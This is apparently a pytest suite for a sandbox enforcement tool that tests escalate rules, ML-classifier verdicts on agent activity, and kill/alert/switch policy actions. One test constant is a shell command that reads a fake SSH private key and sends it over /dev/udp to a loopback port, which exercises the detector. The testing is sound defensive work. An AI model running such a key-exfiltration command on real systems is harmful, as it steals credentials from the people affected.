"""Escalate rules under `capsule enforce`: the fallback decides at once, the shipped
classifier judges the window afterwards, and its verdict drives the policy's action."""

from __future__ import annotations

import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
from enforce_helpers import needs_kernel

from capsule.runtime.store import RunReader

pytestmark = needs_kernel

TASK = "fix the failing unit tests of the parser"
# read a fake key, then send it to a loopback UDP port: the shipped event model scores
# this window risky (0.6-0.7 against a threshold of 0.48, checked with traced runs)
EXFIL = (
    'k=$(cat {key}); echo "$k" > /dev/udp/127.0.0.1/9999; sleep {pause}; echo survived'
)
SEND_RULES = """\
escalate(audit) network connect port 9999
escalate(audit) network send port 9999
"""
MOUNT = """\
import ctypes, errno, os, time
libc = ctypes.CDLL(None, use_errno=True)
start = time.monotonic_ns()
rc = libc.mount(b"none", b"/mnt", b"tmpfs", 0, None)
end = time.monotonic_ns()
print("mount", rc, ctypes.get_errno(), start, end, flush=True)
time.sleep(0.5)
"""


def escalations(run) -> list[dict]:
    return [e for e in run.events if "escalation" in e]


def stored_escalations(directory: Path) -> list[dict]:
    reader = RunReader(directory / "run.db")
    try:
        return [e for e in reader.events() if "escalation" in e]
    finally:
        reader.close()


@pytest.fixture
def key(tmp_path):
    path = tmp_path / "home" / ".ssh" / "id_rsa"
    path.parent.mkdir(parents=True)
    path.write_text("-----BEGIN OPENSSH PRIVATE KEY----- not a real key\n")
    return path


def test_fallback_denies_at_once_and_the_verdict_is_stored(enforce, py, tmp_path):
    run = enforce("escalate(deny) system mount\n", [py, "-c", MOUNT], task=TASK)

    _, rc, err = run.stdout.split()[:3]
    assert (int(rc), int(err)) == (-1, 1), run.stdout  # EPERM from the fallback
    denial = run.verdicts("system", "mount")[0]
    assert denial["verdict"] == "deny" and denial["rule"].endswith("policy.cap:1")
    [stored] = stored_escalations(tmp_path / "run")
    outcome = stored["escalation"]
    assert outcome["verdict"] in ("risky", "harmless")
    assert 0.0 <= outcome["score"] <= 1.0
    assert outcome["latency_ms"] > 0 and outcome["top_features"]
    assert outcome["fallback"] == "deny"
    assert stored["rule"].endswith("policy.cap:1")


def test_the_classifier_never_delays_the_operation(enforce, py):
    run = enforce("escalate(deny) system mount\n", [py, "-c", MOUNT], task=TASK)

    start, end = (int(v) for v in run.stdout.split()[3:5])
    [event] = escalations(run)
    outcome = event["escalation"]
    # both clocks are CLOCK_MONOTONIC: the syscall had returned before the verdict
    # existed, and before the classifier even started on it
    classify_started = event["ts_ns"] - outcome["latency_ms"] * 1e6
    syscall_ms = (end - start) / 1e6
    print(f"denied mount {syscall_ms:.3f} ms; classifier {outcome['latency_ms']} ms")
    assert end < classify_started
    assert end < event["ts_ns"]


def test_kill_on_a_risky_verdict_kills_the_tree(enforce, key):
    policy = "set escalate-action = kill\n" + SEND_RULES
    started = time.monotonic()
    run = enforce(
        policy, ["bash", "-c", EXFIL.format(key=key, pause=20)], trace=True, task=TASK
    )

    assert run.exit_code == 128 + 9, [e["escalation"] for e in escalations(run)]
    assert time.monotonic() - started < 15
    assert "survived" not in run.stdout
    [first, *_] = escalations(run)
    assert first["escalation"]["verdict"] == "risky"
    assert first["escalation"]["action"] == "kill"


def test_alert_records_only(enforce, key):
    policy = "set escalate-action = alert\n" + SEND_RULES
    run = enforce(
        policy, ["bash", "-c", EXFIL.format(key=key, pause=1)], trace=True, task=TASK
    )

    assert run.exit_code == 0 and "survived" in run.stdout
    [first, *_] = escalations(run)
    assert first["escalation"]["verdict"] == "risky"
    assert first["escalation"]["action"] == "alert"


def test_switch_moves_the_tree_to_the_stricter_policy(enforce, key, tmp_path):
    (tmp_path / "strict.cap").write_text(
        "deny namespace unshare\ndeny network connect port 9998\n"
    )
    policy = (
        'set escalate-action = switch\nset escalate-policy = "strict.cap"\n'
        + SEND_RULES
    )
    script = (
        "unshare -u true && echo before-ok; "
        + EXFIL.format(key=key, pause=1)
        + "; unshare -u true || echo unshare-denied"
        + "; echo x > /dev/udp/127.0.0.1/9998 || echo connect-denied"
    )
    run = enforce(policy, ["bash", "-c", script], trace=True, task=TASK)

    assert "before-ok" in run.stdout, run.stdout
    assert "unshare-denied" in run.stdout and "connect-denied" in run.stdout
    assert escalations(run)[0]["escalation"]["action"] == "switch"
    denials = run.verdicts("namespace", "unshare")
    assert denials and denials[-1]["rule"].endswith("strict.cap:1")


def _capsule(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    code = "from capsule.cli.main import run; run()"
    return subprocess.run(
        [sys.executable, "-c", code, *args],
        check=False,
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=120,
    )


@pytest.mark.parametrize("damage", ["missing", "corrupted"])
def test_a_bad_model_stops_the_run_before_cmd(tmp_path, damage):
    from capsule.ml.model import MODELS_DIR

    models = tmp_path / "models"
    shutil.copytree(MODELS_DIR, models)
    target = models / "agent-events.onnx"
    if damage == "missing":
        target.unlink()
    else:
        target.write_bytes(target.read_bytes()[:-100])
    (tmp_path / "p.cap").write_text("escalate(deny) system mount\n")
    marker = tmp_path / "started"

    done = _capsule(
        "enforce", "--models", str(models), "-o", str(tmp_path / "run"),
        "p.cap", "--", "touch", str(marker), cwd=tmp_path,
    )  # fmt: skip

    assert done.returncode == 125, done.stderr
    errors = [line for line in done.stderr.splitlines() if "error:" in line]
    assert len(errors) == 1 and "failed to load model" in errors[0], done.stderr
    assert "Traceback" not in done.stderr
    assert not marker.exists()


def test_no_model_is_loaded_without_escalate_rules(tmp_path):
    (tmp_path / "p.cap").write_text("deny system mount\n")
    done = _capsule(
        "enforce", "--models", str(tmp_path / "nowhere"), "-o", str(tmp_path / "run"),
        "p.cap", "--", "true", cwd=tmp_path,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr


def test_task_file_is_read(tmp_path):
    (tmp_path / "p.cap").write_text("escalate(deny) system mount\n")
    (tmp_path / "task.txt").write_text(TASK + "\n")
    done = _capsule(
        "enforce", "--task-file", "task.txt", "--json", "-o", str(tmp_path / "run"),
        "p.cap", "--", "mount", "-t", "tmpfs", "none", "/mnt", cwd=tmp_path,
    )  # fmt: skip
    assert done.returncode != 0  # the fallback denied the mount
    reader = RunReader(tmp_path / "run" / "run.db")
    try:
        assert reader.meta()["task"] == TASK
    finally:
        reader.close()
    assert '"escalations": {' in done.stdout


SEND = (
    "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
    "try:\n s.sendto(b'x', ('127.0.0.1', {port}))\n print('sent')\n"
    "except OSError as e:\n print('errno', e.errno)\n"
)


@pytest.mark.parametrize(
    "policy,expected,rule",
    [
        ("escalate(allow) network send port 9997\n", "sent", "policy.cap:1"),
        ("default network escalate(deny)\n", "errno 1", "default:network"),
    ],
)
def test_network_escalations_reach_the_classifier(enforce, py, policy, expected, rule):
    run = enforce(policy, [py, "-c", SEND.format(port=9997)], task=TASK)

    assert expected in run.stdout, run.stdout
    [first, *_] = escalations(run)
    assert first["rule"].endswith(rule)
    assert first["escalation"]["verdict"] in ("risky", "harmless")
